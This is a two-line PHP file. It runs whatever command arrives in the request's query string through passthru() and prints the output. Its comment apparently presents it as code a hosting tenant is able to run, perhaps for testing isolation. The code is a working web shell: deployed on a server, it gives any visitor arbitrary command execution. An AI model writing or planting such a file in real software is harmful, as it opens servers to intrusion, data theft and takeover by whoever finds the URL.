<?php // Runs the command in the query, as php code of a tenant can.
passthru(urldecode($_SERVER['QUERY_STRING']) . ' 2>&1');
